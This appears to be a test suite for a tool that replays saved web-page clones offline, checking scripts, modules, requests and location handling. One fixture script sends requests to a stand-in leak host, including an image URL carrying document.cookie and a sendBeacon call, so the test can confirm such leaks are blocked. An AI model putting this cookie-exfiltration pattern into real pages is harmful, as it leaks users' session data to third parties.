import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { deepIt } from '@garimpo/service-kit/testing/deep';
import { afterAll, beforeAll, expect, it, jest } from '@jest/globals';
import { stillAddress } from '../src/replay/still-page.ts';
import type { CloneManifest, RecordedCall } from '../src/store/clone-manifest.ts';
import { pictureOf } from './corpus/picture.ts';
import { type DiskClones, startDiskClones } from './support/disk-clones.ts';
import { MemorySink } from './support/memory-sink.ts';

jest.setTimeout(120_000);

let disk: DiskClones;
beforeAll(async () => {
  disk = await startDiskClones();
});
afterAll(() => disk.close());

/** Each is hard from a disk in another way, others are tried by `npm run test:deep`; what scripts may ask for is below. */
const OPENED = ['sprites', 'modulos'];

it.each(OPENED)('%s opens from a disk as it does on its host, and asks nobody', (name) =>
  disk.expectSameFromDisk(name),
);

/** A clone of `http://loja.test/oferta/?id=1` with these files, the page first. */
async function made(
  sink: MemorySink,
  files: Record<string, [body: string | Buffer, type: string]>,
  calls: Record<string, [body: string, type: string, status?: number]> = {},
): Promise<CloneManifest> {
  const stored: CloneManifest['files'] = {};
  for (const [address, [body, type]] of Object.entries(files)) {
    stored[address] = await sink.put(Buffer.from(body), type);
  }
  const recorded = Object.entries(calls).map(async ([asked, [body, type, status]]): Promise<RecordedCall> => {
    const [method = '', address = '', sent] = asked.split(' ');
    const bodySha256 = sent === undefined ? null : createHash('sha256').update(sent).digest('hex');
    const file = await sink.put(Buffer.from(body), type);
    return { method, address, bodySha256, answer: status === undefined ? file : { ...file, status } };
  });
  const entry = Object.keys(files)[0] ?? '';
  const originalUrl = `http://loja.test${entry}`;
  return { format: 1, entry, originalUrl, files: stored, redirects: {}, calls: await Promise.all(recorded) };
}

const PICTURE = pictureOf('disco');
const HTML = 'text/html; charset=utf-8';
const SCRIPT = 'text/javascript';

const LIVELY = `<!doctype html><html><head><title>Oferta</title></head><body>
<div id=caixa data-dados='{"foto":"http:\\/\\/cdn.test\\/foto.png"}'></div><p id=dito></p>
<a id=fora href="http://loja.test/outra?x=1">a</a><a id=dentro href="/guia.pdf">b</a><a id=aqui href="#fim">c</a>
<script src="/js/antigo.js?v=3"></script>
<script type=module src="/js/novo.js"></script>
<script type=module>import('/js/tarde.js').then(({ tarde }) => diz('tarde ' + tarde))</script></body></html>`;

/** Each says one word when what it asked for came as it must. */
const ANTIGO = `var ditas = [];
function diz(palavra) { ditas.push(palavra); document.getElementById('dito').textContent = ditas.sort().join(' '); }
function foto(nome, imagem) { imagem.onload = function () { diz(nome); }; document.body.appendChild(imagem); }
var json = new Image(); foto('json', json); json.src = JSON.parse(document.getElementById('caixa').dataset.dados).foto;
var raiz = new Image(); foto('raiz', raiz); raiz.setAttribute('src', '/img/foto.png?_=' + Math.random());
var perto = new Image(); foto('perto', perto); perto.src = 'perto.png';
var conjunto = new Image(); foto('conjunto', conjunto); conjunto.srcset = '/img/foto.png 1x, http://cdn.test/foto.png 2x';
fetch('/api/preco?_=1').then(function (r) { return r.json(); }).then(function (d) { diz('fetch ' + d.preco); });
fetch('http://api.test/frete', { method: 'POST', body: 'cep=1' }).then(function (r) { return r.text(); }).then(diz);
fetch(new Request('/nada')).then(function (r) { diz('falta ' + r.status); });
var velho = new XMLHttpRequest(); velho.open('GET', '/api/preco'); velho.responseType = 'json'; velho.setRequestHeader('x-a', '1');
velho.onload = function () { diz('xhr ' + velho.status + velho.response.preco); }; velho.send();
var erro = new XMLHttpRequest(); erro.open('GET', '/api/erro');
erro.onload = function () { diz('erro ' + erro.status + erro.responseText); }; erro.send();
var folha = document.head.appendChild(document.createElement('style')).sheet;
folha.insertRule('#caixa { background: url(http://cdn.test/foto.png) }');
if (/^url."file:.*\\/cdn.test\\/foto.png/.test(getComputedStyle(document.getElementById('caixa')).backgroundImage)) diz('regra');
history.pushState({}, '', '/outra/rota'); diz('rota');
new Image().src = 'http://vaza.test/a.gif'; fetch('http://vaza.test/b').catch(function () {});
document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href="http://vaza.test/c.css">');
new Image().src = 'http://vaza.test/d.gif?' + document.cookie; navigator.sendBeacon('http://vaza.test/e', 'x');
document.body.appendChild(document.createElement('iframe')).src = 'http://vaza.test/f';`;

deepIt(
  'gives scripts from a disk what they had on a host, whatever way they ask, and nothing else',
  async () => {
    const sink = new MemorySink();
    const manifest = await made(
      sink,
      {
        '/oferta/?id=1': [LIVELY, HTML],
        '/js/antigo.js?v=3': [ANTIGO, SCRIPT],
        '/js/novo.js': [
          `import { a } from './a.js'; import('./' + 'b.js').then(({ b }) => diz('modulos ' + a() + b));
         import(\`./so.js\`).then(({ so }) => diz('modelo ' + so));
         if (import.meta.resolve('./b.js') === 'http://loja.test/js/b.js') diz('resolve');
         const imagem = new Image(); foto('meta', imagem); imagem.src = new URL('../img/foto.png', import.meta.url).href;`,
          SCRIPT,
        ],
        '/js/a.js': [
          'import { b } from "./b.js"; export const a = () => "a" + b; export const c = "c";',
          SCRIPT,
        ],
        '/js/b.js': ['import { c } from "./a.js"; export const b = "b"; export const d = () => c;', SCRIPT],
        '/js/so.js': ['export const so = "so"', SCRIPT],
        '/js/tarde.js': ['export const tarde = "sim"', SCRIPT],
        '/img/foto.png': [PICTURE, 'image/png'],
        '/oferta/perto.png': [PICTURE, 'image/png'],
        '/__ext/cdn.test/foto.png': [PICTURE, 'image/png'],
        '/guia.pdf': ['pdf', 'application/pdf'],
      },
      {
        'GET /api/preco': ['{"preco":"97 reais, à vista"}', 'application/json'],
        'GET /api/erro': ['sem', 'text/plain', 503],
        'POST /__ext/api.test/frete cep=1': ['um', 'text/plain'],
        'POST /__ext/api.test/frete cep=2': ['dois', 'text/plain'],
      },
    );
    const address = await disk.unpack({ manifest }, sink, 'viva');
    await disk.launcher.run({ timeoutMs: 60_000, maxBytes: 1, only: [] }, async ({ context, refused }) => {
      const tab = await context.newPage();
      await tab.goto(address);
      const said =
        'conjunto erro 503sem falta 404 fetch 97 reais, à vista json meta modelo so modulos abb perto raiz regra resolve rota tarde sim um xhr 20097 reais, à vista';
      await tab.waitForFunction(`document.getElementById('dito').textContent === ${JSON.stringify(said)}`);
      const links = (value: string) =>
        tab.evaluate(`['fora', 'dentro', 'aqui'].map((id) => document.getElementById(id).${value})`);
      expect(await links('getAttribute("href")')).toEqual(['http://loja.test/outra?x=1', 'guia.pdf', '#fim']);
      expect(await links('href')).toEqual([
        'http://loja.test/outra?x=1',
        'http://loja.test/guia.pdf',
        'http://loja.test/oferta/?id=1#fim',
      ]);
      expect(refused()).toEqual([]);
    });
  },
);

const PLACE_PAGE =
  `<!doctype html><html><head><base href="/oferta/"></head><body><p id=dito></p><a id=termos>termos</a>
<script src="http://cdn.test/js/eu.js?loja=4"></script></body></html>`.replaceAll(
    'http://cdn.test',
    '/__ext/cdn.test',
  );

/** Each line is what a script of an application looks at. */
const PLACE_SCRIPT = `const eu = document.currentScript, ditas = {}, diz = (nome, valor) => { ditas[nome] = valor; dito.textContent = Object.keys(ditas).length }
const { location: lugar, history: historia } = window
diz('lugar', [location.href, document.location.pathname, lugar.host, self?.location.origin, String(window['location']), document.URL, document.baseURI, window.origin].join(' '))
diz('eu', eu.src + ' ' + eu.getAttribute('src') + ' ' + document.querySelector('base').getAttribute('href'))
historia.replaceState({ n: 1 }, '', location.pathname + '?aba=2')
history.pushState({ n: 2 }, '', '/oferta/passo')
diz('rota', location.pathname + JSON.stringify(history.state))
addEventListener('popstate', ({ state }) => diz('volta', location.search + JSON.stringify(state)))
history.back()
addEventListener('message', ({ data, origin }) => diz('recado', data + ' ' + origin))
postMessage('oi', location.origin)
const pedaco = document.createElement('script'); pedaco.src = '/js/pedaco.js'; document.head.append(pedaco)
const modulo = document.createElement('script'); modulo.type = 'module'; modulo.crossOrigin = ''; modulo.src = '/js/modulo.js'; document.head.append(modulo)
const folha = document.createElement('link'); folha.rel = 'stylesheet'; folha.crossOrigin = 'anonymous'; folha.href = '/js/folha.css'; folha.onload = () => diz('folha', 'sim'); document.head.append(folha)
fetch('/dados/carga.json').then((r) => r.json()).then(({ carga }) => diz('dados', carga))
fetch('/vazio').then(async (r) => diz('vazio', r.status + await r.text()))
fetch('http://fora.test/a').catch((erro) => diz('falha', erro.name))
const velho = new XMLHttpRequest(); velho.open('GET', 'http://fora.test/b'); velho.onerror = () => diz('falha antiga', velho.status); velho.onload = () => diz('falha antiga', 'veio'); velho.send()
document.body.insertAdjacentHTML('beforeend', '<svg><defs><linearGradient id=g /></defs><use href="#g" /></svg>')
diz('parte', document.querySelector('use').getAttribute('href'))
termos.setAttribute('href', '/termos'); diz('ligacao', termos.href + ' ' + termos.pathname)
window.ditas = ditas`;

deepIt('lets scripts of an application see the place of the original, and go on from there', async () => {
  const sink = new MemorySink();
  const manifest = await made(
    sink,
    {
      '/oferta/': [PLACE_PAGE, HTML],
      '/__ext/cdn.test/js/eu.js?loja=4': [PLACE_SCRIPT, SCRIPT],
      '/js/pedaco.js': ["diz('pedaco', document.currentScript.getAttribute('src'))", SCRIPT],
      '/js/modulo.js': ["import { nome } from './nome.js'; diz('modulo', nome)", SCRIPT],
      '/js/nome.js': ["export const nome = 'modulo'", SCRIPT],
      '/js/folha.css': ['p{color:red}', 'text/css'],
      '/dados/carga.json': ['{"carga":"leve"}', 'application/json'],
    },
    { 'GET /vazio': ['', 'text/plain', 204] },
  );
  manifest.failed = ['GET /__ext/fora.test/a', 'GET /__ext/fora.test/b'];
  const address = await disk.unpack({ manifest }, sink, 'lugar');
  await disk.launcher.run({ timeoutMs: 60_000, maxBytes: 1, only: [] }, async ({ context, refused }) => {
    const tab = await context.newPage();
    await tab.goto(`${address}#topo`);
    await tab
      .waitForFunction(`document.getElementById('dito').textContent === '14'`, null, { timeout: 10_000 })
      .catch(() => {});
    const page = 'http://loja.test/oferta/#topo';
    expect(await tab.evaluate('ditas')).toEqual({
      lugar: [
        page,
        '/oferta/',
        'loja.test',
        'http://loja.test',
        page,
        page,
        'http://loja.test/oferta/',
        'http://loja.test',
      ].join(' '),
      eu: 'http://cdn.test/js/eu.js?loja=4 http://cdn.test/js/eu.js?loja=4 /oferta/',
      rota: '/oferta/passo{"n":2}',
      volta: '?aba=2{"n":1}',
      recado: 'oi http://loja.test',
      pedaco: '/js/pedaco.js',
      modulo: 'modulo',
      folha: 'sim',
      dados: 'leve',
      vazio: '204',
      falha: 'TypeError',
      'falha antiga': 0,
      parte: '#g',
      ligacao: 'http://loja.test/termos /termos',
    });
    const leaving = tab.waitForRequest('http://loja.test/termos');
    await tab.locator('#termos').click({ noWaitAfter: true });
    await leaving;
    expect(refused().filter((place) => !place.startsWith('loja.test'))).toEqual([]);
  });
});

deepIt(
  'serves the folder by the script that comes along where a page needs a server, and says so',
  async () => {
    const sink = new MemorySink();
    const page = `<!doctype html><html><body><p>Oi</p><script src="/conta.js"></script></body></html>`;
    const script = `new Worker('/soma.js').onmessage = ({ data }) => { document.querySelector('p').textContent = data }`;
    const manifest = await made(sink, {
      '/oferta/': [page, HTML],
      '/conta.js': [script, SCRIPT],
      '/soma.js': ["postMessage('Soma: ' + (20 + 22))", SCRIPT],
    });
    const folder = dirname(fileURLToPath(await disk.unpack({ manifest }, sink, 'servida')));
    expect(await readFile(join(folder, 'LEIA-ME.txt'), 'utf8')).toContain('node servir.mjs');
    const server = spawn(process.execPath, [join(folder, 'servir.mjs')], {
      env: { ...process.env, PORT: '0' },
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    try {
      const [said] = await once(server.stdout, 'data');
      const port = Number(/localhost:(\d+)/.exec(String(said))?.[1]);
      const only = [`copia.localhost=127.0.0.1:${port}`];
      await disk.launcher.run({ timeoutMs: 60_000, maxBytes: 1024 * 1024, only }, async ({ context }) => {
        const tab = await context.newPage();
        await tab.goto('http://copia.localhost/');
        await tab.getByText('Soma: 42').waitFor();
      });
    } finally {
      server.kill();
    }
  },
);

deepIt.each([
  ['a computer', 1366, 'pagina-sem-scripts.html', 'Curso completo de violão com garantia'],
  ['a phone', 390, 'pagina-sem-scripts-celular.html', 'Curso de bolso de violão com garantia'],
])('shows the page as it was drawn on %s where its scripts do not work', async (_, width, file, text) => {
  // Code that is put together as text finds the file's own place.
  const router = `document.body.textContent = eval('loc' + 'ation').pathname === '/oferta/' ? 'Curso completo de violão com garantia' : 'Página não encontrada'`;
  const sink = new MemorySink();
  const page = `<!doctype html><html><head></head><body><script src="/rotas.js"></script></body></html>`;
  const manifest = await made(sink, { '/oferta/': [page, HTML], '/rotas.js': [router, SCRIPT] });
  const still = (words: string) => `<!doctype html><html><head></head><body>${words}</body></html>`;
  const { sha256 } = manifest.files['/oferta/']!;
  manifest.files[stillAddress(sha256)] = await sink.put(
    Buffer.from(still('Curso completo de violão com garantia')),
    HTML,
  );
  manifest.files[stillAddress(sha256, 'narrow')] = await sink.put(
    Buffer.from(still('Curso de bolso de violão com garantia')),
    HTML,
  );
  const address = await disk.unpack({ manifest }, sink, `rotas-${width}`);
  await disk.launcher.run({ timeoutMs: 60_000, maxBytes: 1, only: [] }, async ({ context }) => {
    const tab = await context.newPage();
    await tab.setViewportSize({ width, height: 800 });
    await tab.goto(address);
    await tab.getByText(text).waitFor();
    expect(new URL(tab.url()).pathname.endsWith(`/${file}`)).toBe(true);
  });
});
